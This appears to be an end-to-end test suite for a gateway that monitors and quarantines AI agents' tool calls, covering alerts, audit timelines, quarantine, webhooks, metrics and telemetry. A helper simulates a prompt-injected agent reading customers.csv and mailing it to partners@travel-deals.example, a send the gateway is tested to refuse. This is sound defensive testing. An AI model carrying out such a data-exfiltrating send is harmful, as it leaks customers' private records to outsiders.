//! The admin API end to end, against the real binary: agents and sessions
//! with risk, labels and recent actions, a session's timeline from the audit
//! log, alerts, quarantine and release, ending a session, and reloading the
//! configuration.

mod support;

use http::StatusCode;
use serde_json::{Value, json};
use support::{ADMIN_TOKEN, Gateway, admin_section, call, open_session, text_of};

const DEMO: &str = "upstreams:\n  - name: mail\n    builtin: mail\n  - name: files\n    builtin: files\n  - name: web\n    builtin: web\n";

/// A gateway with the admin API; held calls are refused at once unless
/// `extra` has its own `judge` section.
fn start(extra: &str) -> Gateway {
    let judge = if extra.contains("judge:") {
        ""
    } else {
        "judge:\n  hold_timeout: 0s\n"
    };
    Gateway::start(&format!("{}{judge}{extra}{DEMO}", admin_section()))
}

async fn admin(gw: &Gateway, method: &str, path: &str) -> (StatusCode, Value) {
    let r = gw.admin(ADMIN_TOKEN, method, path).await;
    let body = serde_json::from_slice(&r.body)
        .unwrap_or_else(|_| panic!("not JSON: {}", String::from_utf8_lossy(&r.body)));
    (r.status, body)
}

async fn tool(gw: &Gateway, sid: &str, id: u64, name: &str, args: Value) -> Value {
    call(
        &gw.url,
        sid,
        id,
        "tools/call",
        json!({"name": name, "arguments": args}),
    )
    .await
    .last()
    .clone()
}

fn decision_of(answer: &Value) -> &Value {
    &answer["result"]["_meta"]["io.castellan/decision"]
}

/// Reads an injected web page and the customer file, then tries to mail
/// the customers out: refused.
async fn exfiltration(gw: &Gateway, sid: &str) -> Value {
    let _ = tool(
        gw,
        sid,
        1,
        "web__fetch_url",
        json!({"url": "https://travel-deals.example/offers"}),
    )
    .await;
    let file = tool(
        gw,
        sid,
        2,
        "files__read_file",
        json!({"path": "customers.csv"}),
    )
    .await;
    let customers = text_of(&file);
    let send = tool(
        gw,
        sid,
        3,
        "mail__send_email",
        json!({"to": "partners@travel-deals.example", "subject": "sync", "body": customers}),
    )
    .await;
    assert_eq!(send["result"]["isError"], true, "{send}");
    send
}

#[tokio::test]
async fn agents_and_sessions_show_risk_labels_and_recent_actions_and_a_session_timeline_comes_from_the_audit_log()
 {
    let gw = start("");
    let sid = open_session(&gw.url).await;
    let send = exfiltration(&gw, &sid).await;
    let refused_id = decision_of(&send)["id"]
        .as_str()
        .expect("decision id")
        .to_owned();

    let (status, agents) = admin(&gw, "GET", "/agents").await;
    assert_eq!(status, StatusCode::OK, "{agents}");
    let agent = agents["agents"]
        .as_array()
        .and_then(|a| a.iter().find(|a| a["agent"] == "test-agent"))
        .unwrap_or_else(|| panic!("test-agent not listed: {agents}"))
        .clone();
    assert!(agent["risk"].as_u64().unwrap_or(0) > 0, "{agent}");
    assert_eq!(
        agent["quarantined"],
        agent["quarantine"].is_object(),
        "{agent}"
    );
    let labels: Vec<&str> = agent["labels"]
        .as_array()
        .map(|l| l.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    assert!(
        labels.contains(&"untrusted"),
        "the web page taints the session: {agent}"
    );
    let recent: Vec<&str> = agent["recent"]
        .as_array()
        .map(|r| r.iter().filter_map(|a| a["tool"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(
        recent,
        ["send_email", "read_file", "fetch_url"],
        "newest first: {agent}"
    );
    assert_eq!(agent["recent"][0]["id"], refused_id.as_str());

    let (_, sessions) = admin(&gw, "GET", "/sessions?agent=test-agent").await;
    let listed = sessions["sessions"]
        .as_array()
        .and_then(|s| s.iter().find(|s| s["session"] == sid.as_str()))
        .unwrap_or_else(|| panic!("session not listed: {sessions}"))
        .clone();
    assert_eq!(listed["agent"], "test-agent");
    assert_eq!(listed["calls"], 3);
    assert!(listed["risk"].as_u64().unwrap_or(0) > 0, "{listed}");
    assert!(listed["last_activity_ms"].as_u64().unwrap_or(0) > 0);
    let (_, other) = admin(&gw, "GET", "/sessions?agent=other-agent").await;
    assert_eq!(other["sessions"], json!([]), "filtered by agent");

    let (status, one) = admin(&gw, "GET", &format!("/sessions/test-agent/{sid}")).await;
    assert_eq!(status, StatusCode::OK, "{one}");
    let timeline = one["timeline"].as_array().expect("timeline");
    let tools: Vec<&str> = timeline
        .iter()
        .filter_map(|r| r["target"].as_str())
        .collect();
    // Each result that carried something (the page's injected instructions,
    // the file's IBANs) has its record right after its call's decision.
    assert_eq!(
        tools,
        [
            "fetch_url",
            "fetch_url",
            "read_file",
            "read_file",
            "send_email"
        ],
        "in order: {one}"
    );
    assert_eq!(
        timeline[1]["id"],
        format!("{}.result", timeline[0]["id"].as_str().unwrap_or_default())
    );
    assert_eq!(timeline[1]["decision"], "result_label");
    assert_eq!(timeline[1]["facts"]["signals"][0]["in"], "result", "{one}");
    assert_eq!(
        timeline[3]["facts"]["findings"][0]["detector"], "iban",
        "{one}"
    );
    assert_eq!(timeline[4]["id"], refused_id.as_str());
    assert_ne!(timeline[4]["decision"], "allow");
    assert!(timeline[0]["seq"].as_i64() < timeline[1]["seq"].as_i64());

    let (status, _) = admin(&gw, "GET", "/sessions/test-agent/no-such-session").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn alerts_list_refused_calls_with_their_decision_id_and_print_them_on_stdout() {
    let gw = start("");
    let sid = open_session(&gw.url).await;
    let send = exfiltration(&gw, &sid).await;
    let id = decision_of(&send)["id"]
        .as_str()
        .expect("decision id")
        .to_owned();
    let (status, alerts) = admin(&gw, "GET", "/alerts?limit=10").await;
    assert_eq!(status, StatusCode::OK);
    let alert = alerts["alerts"]
        .as_array()
        .and_then(|a| a.iter().find(|a| a["id"] == id.as_str()))
        .unwrap_or_else(|| panic!("refusal {id} not in alerts: {alerts}"))
        .clone();
    assert_eq!(alert["agent"], "test-agent");
    assert_eq!(alert["tool"], "send_email");
    assert_eq!(alert["upstream"], "mail");
    assert_eq!(alert["decision"], decision_of(&send)["decision"]);
    assert!(
        !alert["rules"].as_array().map(Vec::is_empty).unwrap_or(true),
        "{alert}"
    );
    assert!(
        !alert["reason"].as_str().unwrap_or_default().is_empty(),
        "{alert}"
    );
    support::eventually(10, async || {
        gw.stdout().lines().any(|l| {
            serde_json::from_str::<Value>(l)
                .is_ok_and(|v| v["type"] == "castellan.alert" && v["alert"]["id"] == id.as_str())
        })
    })
    .await;
}

#[tokio::test]
async fn an_operator_quarantines_an_agent_and_releases_it() {
    let gw = start("");
    let sid = open_session(&gw.url).await;
    let ok = tool(&gw, &sid, 1, "mail__list_inbox", json!({})).await;
    assert_ne!(ok["result"]["isError"], true, "{ok}");

    let (status, q) = admin(&gw, "POST", "/agents/test-agent/quarantine").await;
    assert_eq!(status, StatusCode::OK, "{q}");
    let refused = tool(&gw, &sid, 2, "mail__list_inbox", json!({})).await;
    assert_eq!(refused["result"]["isError"], true, "{refused}");
    assert_eq!(decision_of(&refused)["decision"], "quarantine", "{refused}");
    let (_, agents) = admin(&gw, "GET", "/agents").await;
    assert!(
        agents["agents"].as_array().is_some_and(|a| a
            .iter()
            .any(|a| a["agent"] == "test-agent" && a["quarantined"] == true)),
        "{agents}"
    );
    // Another agent is not affected.
    let other = support::post(
        &gw.url,
        &[("authorization", &format!("Bearer {}", support::OTHER_KEY))],
        &json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "e2e", "version": "1"}}}),
    )
    .await;
    assert_eq!(other.status, StatusCode::OK);

    let (status, r) = admin(&gw, "POST", "/agents/test-agent/release").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(r["released"], true);
    let again = tool(&gw, &sid, 3, "mail__list_inbox", json!({})).await;
    assert_ne!(again["result"]["isError"], true, "released: {again}");
}

#[tokio::test]
async fn ending_a_session_closes_it_for_the_agent_and_drops_its_state() {
    let gw = start("");
    let sid = open_session(&gw.url).await;
    let _ = tool(
        &gw,
        &sid,
        1,
        "web__fetch_url",
        json!({"url": "https://travel-deals.example/offers"}),
    )
    .await;
    let (status, r) = admin(&gw, "DELETE", &format!("/sessions/test-agent/{sid}")).await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert_eq!(r["ended"], true);
    let after = call(
        &gw.url,
        &sid,
        2,
        "tools/call",
        json!({"name": "mail__list_inbox", "arguments": {}}),
    )
    .await;
    assert_eq!(
        after.status,
        StatusCode::NOT_FOUND,
        "the agent's session is gone"
    );
    let (_, sessions) = admin(&gw, "GET", "/sessions").await;
    assert!(
        !sessions["sessions"]
            .as_array()
            .is_some_and(|s| s.iter().any(|s| s["session"] == sid.as_str())),
        "{sessions}"
    );
    let (status, _) = admin(&gw, "DELETE", &format!("/sessions/test-agent/{sid}")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // Another agent cannot be used to name this agent's session.
    let sid2 = open_session(&gw.url).await;
    let (status, _) = admin(&gw, "DELETE", &format!("/sessions/other-agent/{sid2}")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let still = tool(&gw, &sid2, 1, "mail__list_inbox", json!({})).await;
    assert_ne!(still["result"]["isError"], true, "{still}");
}

#[tokio::test]
async fn reload_applies_a_good_configuration_and_refuses_a_broken_one_with_its_location() {
    let dir = support::scratch("admin-reload");
    let rules = dir.join("rules.yaml");
    std::fs::write(&rules, "rules: []\n").expect("write");
    let gw = start(&format!(
        "judge:\n  hold_timeout: 0s\n  rules: [{}]\n",
        rules.display()
    ));
    let sid = open_session(&gw.url).await;
    let ok = tool(&gw, &sid, 1, "mail__list_inbox", json!({})).await;
    assert_ne!(ok["result"]["isError"], true, "{ok}");

    std::fs::write(&rules, "rules:\n  - id: no-inbox\n    description: the inbox is off limits\n    action: deny\n    when:\n      tool: [\"list_inbox\"]\n").expect("write");
    let (status, r) = admin(&gw, "POST", "/reload").await;
    assert_eq!(status, StatusCode::OK, "{r}");
    let denied = tool(&gw, &sid, 2, "mail__list_inbox", json!({})).await;
    assert_eq!(
        denied["result"]["isError"], true,
        "in force at once: {denied}"
    );

    let good = std::fs::read_to_string(&gw.config).expect("config");
    std::fs::write(&gw.config, format!("{good}listne: oops\n")).expect("write");
    let (status, r) = admin(&gw, "POST", "/reload").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{r}");
    let message = r["error_description"].as_str().unwrap_or_default();
    let at = format!("{}:{}:", gw.config.display(), good.lines().count() + 1);
    assert!(
        message.contains(&at),
        "names file and line ({at}): {message}"
    );
    let still = tool(&gw, &sid, 3, "mail__list_inbox", json!({})).await;
    assert!(
        text_of(&still).contains("no-inbox"),
        "the running rules stay: {still}"
    );
}

#[tokio::test]
async fn every_admin_endpoint_needs_the_admin_token() {
    let gw = start("");
    for (method, path) in [
        ("GET", "/agents"),
        ("GET", "/sessions"),
        ("GET", "/alerts"),
        ("POST", "/agents/test-agent/quarantine"),
        ("DELETE", "/sessions/test-agent/x"),
        ("POST", "/reload"),
    ] {
        let r = gw.admin(support::TEST_KEY, method, path).await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED, "{method} {path}");
    }
    let (_, agents) = admin(&gw, "GET", "/agents").await;
    assert_eq!(
        agents["agents"],
        json!([]),
        "the refused quarantine did nothing"
    );
}

mod webhooks {
    use super::*;
    use std::sync::{Arc, Mutex};

    /// One delivery the receiver saw: headers and body.
    pub(super) type Seen = Arc<Mutex<Vec<(http::HeaderMap, Value, bytes::Bytes)>>>;

    /// An HTTP receiver (webhooks, OTLP) that fails its first `fail`
    /// requests with 503 and keeps what it was sent.
    pub(super) async fn receiver(fail: usize) -> (String, Seen) {
        use http_body_util::{BodyExt, Full};
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let addr = listener.local_addr().expect("addr");
        let seen: Seen = Arc::default();
        let s = seen.clone();
        tokio::spawn(async move {
            loop {
                let Ok((stream, _)) = listener.accept().await else {
                    return;
                };
                let s = s.clone();
                tokio::spawn(async move {
                    let svc = hyper::service::service_fn(
                        move |req: http::Request<hyper::body::Incoming>| {
                            let s = s.clone();
                            async move {
                                let headers = req.headers().clone();
                                let body = req
                                    .into_body()
                                    .collect()
                                    .await
                                    .map(|b| b.to_bytes())
                                    .unwrap_or_default();
                                let value: Value =
                                    serde_json::from_slice(&body).unwrap_or(Value::Null);
                                let n = {
                                    let mut g = s.lock().expect("lock");
                                    g.push((headers, value, body));
                                    g.len()
                                };
                                let status = if n <= fail { 503 } else { 200 };
                                let mut r = http::Response::new(Full::new(bytes::Bytes::new()));
                                *r.status_mut() =
                                    http::StatusCode::from_u16(status).expect("status");
                                Ok::<_, std::convert::Infallible>(r)
                            }
                        },
                    );
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(hyper_util::rt::TokioIo::new(stream), svc)
                        .await;
                });
            }
        });
        (format!("http://{addr}/hook"), seen)
    }

    fn hmac_hex(secret: &str, body: &[u8]) -> String {
        let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret.as_bytes());
        let tag = aws_lc_rs::hmac::sign(&key, body);
        tag.as_ref().iter().map(|b| format!("{b:02x}")).collect()
    }

    #[tokio::test]
    async fn a_refusal_reaches_the_webhook_signed_after_a_failed_first_delivery() {
        let (url, seen) = receiver(1).await;
        let gw = start(&format!(
            "alerts:\n  webhooks:\n    - url: {url}\n      secret: s3cret\n      headers: {{X-Team: secops}}\n      decisions: [hold, deny, quarantine]\n      backoff: 100ms\n"
        ));
        let sid = open_session(&gw.url).await;
        // An allowed call raises no alert for this webhook.
        let _ = tool(&gw, &sid, 9, "mail__list_inbox", json!({})).await;
        let send = exfiltration(&gw, &sid).await;
        let id = decision_of(&send)["id"].as_str().expect("id").to_owned();
        support::eventually(15, async || {
            seen.lock()
                .expect("lock")
                .iter()
                .filter(|(_, v, _)| v["id"] == id.as_str())
                .count()
                >= 2
        })
        .await;
        let deliveries: Vec<(http::HeaderMap, Value, bytes::Bytes)> = seen
            .lock()
            .expect("lock")
            .iter()
            .filter(|(_, v, _)| v["id"] == id.as_str())
            .cloned()
            .collect();
        let attempts: Vec<&str> = deliveries
            .iter()
            .filter_map(|(h, _, _)| h.get("x-castellan-delivery-attempt")?.to_str().ok())
            .collect();
        assert_eq!(attempts, ["1", "2"], "the failed delivery is retried once");
        let (headers, alert, body) = &deliveries[1];
        assert_eq!(alert["agent"], "test-agent");
        assert_eq!(alert["tool"], "send_email");
        assert_eq!(alert["session"], format!("test-agent/{sid}"));
        assert_eq!(alert["decision"], decision_of(&send)["decision"]);
        assert!(
            !alert["rules"].as_array().map(Vec::is_empty).unwrap_or(true),
            "{alert}"
        );
        assert!(!alert["reason"].as_str().unwrap_or_default().is_empty());
        assert_eq!(
            headers.get("x-team").and_then(|v| v.to_str().ok()),
            Some("secops")
        );
        let signature = headers
            .get("x-castellan-signature")
            .and_then(|v| v.to_str().ok())
            .expect("signed");
        assert_eq!(signature, format!("sha256={}", hmac_hex("s3cret", body)));
        // Only refusals were sent: no allow decision reached this webhook.
        assert!(
            seen.lock()
                .expect("lock")
                .iter()
                .all(|(_, v, _)| v["decision"] != "allow"),
            "decisions filter"
        );
    }

    #[test]
    fn check_refuses_a_webhook_with_an_unknown_decision_naming_its_line() {
        let dir = support::scratch("bad-webhook");
        let cfg = dir.join("castellan.yaml");
        std::fs::write(
            &cfg,
            "auth:\n  mode: none\nalerts:\n  webhooks:\n    - url: http://127.0.0.1:1/hook\n      decisions: [denied]\n",
        )
        .expect("write");
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_castellan"))
            .arg("check")
            .arg(&cfg)
            .output()
            .expect("runs");
        assert!(!out.status.success());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(&format!("{}:5:", cfg.display())), "{err}");
        assert!(err.contains("unknown decision `denied`"), "{err}");
    }
}

/// The value of the first sample line starting with `prefix` and holding
/// every one of `labels`.
fn sample(text: &str, prefix: &str, labels: &[&str]) -> Option<f64> {
    text.lines()
        .filter(|l| l.starts_with(prefix) && labels.iter().all(|x| l.contains(x)))
        .find_map(|l| l.rsplit(' ').next()?.parse().ok())
}

#[tokio::test]
async fn metrics_after_real_traffic_count_calls_by_tool_latencies_quarantine_and_the_audit_queue() {
    let gw = start("");
    let sid = open_session(&gw.url).await;
    let _ = call(&gw.url, &sid, 1, "tools/list", json!({})).await;
    for n in 0..3 {
        let r = tool(&gw, &sid, 10 + n, "mail__list_inbox", json!({})).await;
        assert_ne!(r["result"]["isError"], true, "{r}");
    }
    let _ = exfiltration(&gw, &sid).await;
    let (status, _) = admin(&gw, "POST", "/agents/other-agent/quarantine").await;
    assert_eq!(status, StatusCode::OK);
    let text = gw.metrics().await;
    let allowed = sample(
        &text,
        "castellan_decisions_total",
        &[
            "decision=\"allow\"",
            "upstream=\"mail\"",
            "tool=\"list_inbox\"",
        ],
    )
    .unwrap_or_else(|| panic!("no per-tool counter in:\n{text}"));
    assert!(allowed >= 3.0, "{allowed}");
    let refused = ["hold", "deny", "quarantine"]
        .iter()
        .filter_map(|d| {
            sample(
                &text,
                "castellan_decisions_total",
                &[&format!("decision=\"{d}\""), "tool=\"send_email\""],
            )
        })
        .sum::<f64>();
    assert!(refused >= 1.0, "the refused send is counted:\n{text}");
    let upstream = sample(
        &text,
        "castellan_upstream_seconds_count",
        &["upstream=\"mail\""],
    )
    .unwrap_or_else(|| panic!("no upstream latency in:\n{text}"));
    assert!(upstream >= 3.0, "{upstream}");
    assert!(
        text.contains("castellan_upstream_seconds_bucket{upstream=\"mail\",le=\"0.001\"}")
            || text.contains("castellan_upstream_seconds_bucket{le=\"0.001\",upstream=\"mail\"}"),
        "a histogram, not a summary:\n{text}"
    );
    assert!(sample(&text, "castellan_judge_seconds_count", &[]).unwrap_or(0.0) >= 5.0);
    assert!(text.contains("castellan_judge_seconds_bucket"), "{text}");
    assert!(
        sample(&text, "castellan_rule_firings_total", &[]).is_some(),
        "{text}"
    );
    let (_, agents) = admin(&gw, "GET", "/agents").await;
    let quarantined = agents["agents"]
        .as_array()
        .map_or(0, |a| a.iter().filter(|a| a["quarantined"] == true).count());
    assert!(quarantined >= 1, "{agents}");
    assert_eq!(
        sample(&text, "castellan_quarantined_agents ", &[]),
        Some(quarantined as f64),
        "{text}"
    );
    assert!(sample(&text, "castellan_behaviour_sessions ", &[]).unwrap_or(0.0) >= 1.0);
    assert_eq!(
        sample(&text, "castellan_sessions ", &[]),
        Some(1.0),
        "{text}"
    );
    assert!(
        sample(&text, "castellan_audit_queue_depth ", &[]).is_some(),
        "{text}"
    );
    assert!(
        sample(&text, "castellan_audit_write_lag_seconds ", &[]).is_some(),
        "{text}"
    );
    assert!(
        sample(&text, "castellan_alerts_total", &[]).unwrap_or(0.0) >= 1.0,
        "{text}"
    );
}

#[tokio::test]
async fn json_logs_are_one_parseable_object_per_line_with_the_decision_fields() {
    let gw = Gateway::start_with_env(
        &format!("{}judge:\n  hold_timeout: 0s\n{DEMO}", admin_section()),
        &[("CASTELLAN_LOG_FORMAT", "json")],
    );
    let sid = open_session(&gw.url).await;
    let send = exfiltration(&gw, &sid).await;
    let id = decision_of(&send)["id"].as_str().expect("id").to_owned();
    support::eventually(10, async || gw.logs().contains(&id)).await;
    let logs = gw.logs();
    let lines: Vec<Value> = logs
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect();
    let flagged = lines
        .iter()
        .find(|l| l["fields"]["decision_id"] == id.as_str())
        .unwrap_or_else(|| panic!("no log line for {id}: {logs}"));
    let f = &flagged["fields"];
    assert_eq!(f["agent"], "test-agent", "{flagged}");
    assert_eq!(f["tool"], "send_email", "{flagged}");
    assert_eq!(f["decision"], decision_of(&send)["decision"], "{flagged}");
    assert!(
        f["rules"].as_str().is_some_and(|r| !r.is_empty()),
        "{flagged}"
    );
    assert_eq!(flagged["level"], "WARN");
}

#[tokio::test]
async fn a_log_signed_by_the_gateway_verifies_with_only_the_public_key() {
    let dir = support::scratch("signed-audit");
    let key = dir.join("audit-key.pem");
    let castellan = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_castellan"))
            .args(args)
            .output()
            .expect("runs")
    };
    let out = castellan(&["audit", "keygen", &key.display().to_string()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let again = castellan(&["audit", "keygen", &key.display().to_string()]);
    assert!(!again.status.success(), "keygen never overwrites a key");
    let db = dir.join("audit.db");
    let gw = Gateway::start(&format!(
        "audit:\n  path: {}\n  durability: strict\n  signing_key: {}\n  checkpoint_every: 2\n{}judge:\n  hold_timeout: 0s\n{DEMO}",
        db.display(),
        key.display(),
        admin_section()
    ));
    let sid = open_session(&gw.url).await;
    for n in 0..4 {
        let _ = tool(&gw, &sid, n, "mail__list_inbox", json!({})).await;
    }
    drop(gw);
    let public = format!("{}.pub", key.display());
    let ok = castellan(&[
        "audit",
        "verify",
        &db.display().to_string(),
        "--public-key",
        &public,
    ]);
    let stdout = String::from_utf8_lossy(&ok.stdout);
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(stdout.contains("intact (4 records"), "{stdout}");
    assert!(stdout.contains("2 signed checkpoints verified"), "{stdout}");
    // Another key does not vouch for this log.
    let other = dir.join("other.pem");
    assert!(
        castellan(&["audit", "keygen", &other.display().to_string()])
            .status
            .success()
    );
    let bad = castellan(&[
        "audit",
        "verify",
        &db.display().to_string(),
        "--public-key",
        &format!("{}.pub", other.display()),
    ]);
    assert!(!bad.status.success());
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("signature"),
        "{}",
        String::from_utf8_lossy(&bad.stderr)
    );
}

mod telemetry {
    use super::*;

    fn hex_bytes(hex: &str) -> Vec<u8> {
        (0..hex.len())
            .step_by(2)
            .filter_map(|i| u8::from_str_radix(hex.get(i..i + 2)?, 16).ok())
            .collect()
    }

    fn contains(hay: &[u8], needle: &[u8]) -> bool {
        !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
    }

    #[tokio::test]
    async fn a_span_per_call_reaches_the_otlp_collector_and_trace_context_reaches_the_upstream() {
        let (collector, seen) = webhooks::receiver(0).await;
        let otlp = collector.replace("/hook", "/v1/traces");
        let up = support::HttpFixture::start(&[]);
        let gw = Gateway::start(&format!(
            "{}judge:\n  hold_timeout: 0s\ntelemetry:\n  otlp_endpoint: {otlp}\n  service_name: castellan-e2e\nupstreams:\n  - name: remote\n    http:\n      url: http://127.0.0.1:{}/mcp\n      era: legacy\n  - name: mail\n    builtin: mail\n  - name: files\n    builtin: files\n  - name: web\n    builtin: web\n",
            admin_section(),
            up.port
        ));
        let sid = open_session(&gw.url).await;
        let traced = tool(&gw, &sid, 1, "remote__traceparent", json!({})).await;
        let header = text_of(&traced);
        let parts: Vec<&str> = header.split('-').collect();
        assert_eq!(parts.len(), 4, "W3C traceparent sent upstream: {header}");
        assert_eq!(parts[0], "00");
        assert_eq!(parts[1].len(), 32);
        assert_ne!(parts[1], "0".repeat(32));
        let send = exfiltration(&gw, &sid).await;
        let id = decision_of(&send)["id"].as_str().expect("id").to_owned();
        let decision = decision_of(&send)["decision"]
            .as_str()
            .expect("decision")
            .to_owned();
        // The exporter sends protobuf: the span's attribute keys and string
        // values travel as plain bytes.
        support::eventually(20, async || {
            seen.lock()
                .expect("lock")
                .iter()
                .any(|(_, _, body)| contains(body, id.as_bytes()))
        })
        .await;
        let bodies: Vec<bytes::Bytes> = seen
            .lock()
            .expect("lock")
            .iter()
            .map(|(_, _, b)| b.clone())
            .collect();
        let refused = bodies
            .iter()
            .find(|b| contains(b, id.as_bytes()))
            .expect("span of the refused call");
        for needle in [
            "decision",
            decision.as_str(),
            "send_email",
            "test-agent",
            "rules",
            "castellan-e2e",
        ] {
            assert!(
                contains(refused, needle.as_bytes()),
                "`{needle}` missing from the exported span"
            );
        }
        // The upstream's trace id is the id of an exported span's trace.
        let trace_id = hex_bytes(parts[1]);
        support::eventually(20, async || {
            seen.lock()
                .expect("lock")
                .iter()
                .any(|(_, _, body)| contains(body, &trace_id))
        })
        .await;
    }
}
